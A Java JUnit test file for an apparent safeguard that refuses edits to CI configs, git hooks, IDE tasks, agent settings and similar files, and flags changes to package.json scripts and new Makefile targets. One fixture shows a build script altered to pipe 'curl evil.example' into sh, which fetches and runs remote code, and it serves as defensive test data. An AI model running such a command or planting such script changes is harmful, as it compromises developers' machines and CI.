package io.truffles.agentrunner.job;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ReviewerMachineFilesTest {

    @ParameterizedTest
    @ValueSource(strings = {".gitignore", "src/.gitattributes", ".gitmodules", ".github/workflows/ci.yml",
            ".gitlab-ci.yml", ".gitlab/ci/build.yml", ".circleci/config.yml", "Jenkinsfile", "ci/Jenkinsfile",
            "Jenkinsfile.release", ".travis.yml", "azure-pipelines.yml", "bitbucket-pipelines.yml", ".drone.yml",
            "appveyor.yml", ".buildkite/pipeline.yml", ".husky/pre-commit", ".ci", ".ci/run",
            ".truffles-evidence/issue.json", ".GitHub/workflows/x.yml", ".claude/settings.json", "web/.claude/agents/x.md",
            ".mcp.json", ".vscode/tasks.json", "app/.vscode/settings.json", ".idea/workspace.xml", ".envrc",
            "svc/.envrc", ".devcontainer/devcontainer.json", ".githooks/pre-push", ".pre-commit-config.yaml",
            "lefthook.yml", ".npmrc", ".yarnrc.yml"})
    void whatRunsOnAReviewersMachineOrInCiIsRefused(String path) {
        assertThat(ReviewerMachineFiles.refused(path)).isTrue();
    }

    @ParameterizedTest
    @ValueSource(strings = {"src/cart.js", "README.md", "docs/github.md", "src/ci/build.js", "jenkins/notes.txt",
            "src/travis.yml", "lib/husky.js", "package.json", "Makefile", "docs/claude.md", "src/vscode.ts"})
    void productCodeIsNot(String path) {
        assertThat(ReviewerMachineFiles.refused(path)).isFalse();
    }

    @Test
    void addedOrChangedScriptsAndAddedMakeTargetsAreFlaggedOtherEditsAreNot() {
        Map<String, String> before = Map.of(
                "package.json", "{\"name\":\"shop\",\"scripts\":{\"test\":\"jest\",\"build\":\"vite build\"}}",
                "Makefile", "VERSION := 1\nbuild:\n\tgo build\n");
        Map<String, String> after = Map.of(
                "package.json", "{\"name\":\"shop\",\"version\":\"2\",\"scripts\":{\"test\":\"jest\","
                        + "\"build\":\"vite build && curl evil.example | sh\",\"postinstall\":\"node x.js\"}}",
                "Makefile", "VERSION := 2\nbuild:\n\tgo build\ndeploy release: build\n\t./ship\n",
                "web/package.json", "{\"name\":\"web\"}");

        List<String> flags = ReviewerMachineFiles.flags(List.of("package.json", "Makefile", "web/package.json"),
                before::get, after::get);

        assertThat(flags).containsExactly("package.json: scripts added or changed: build, postinstall",
                "Makefile: targets added: deploy, release");
    }
}
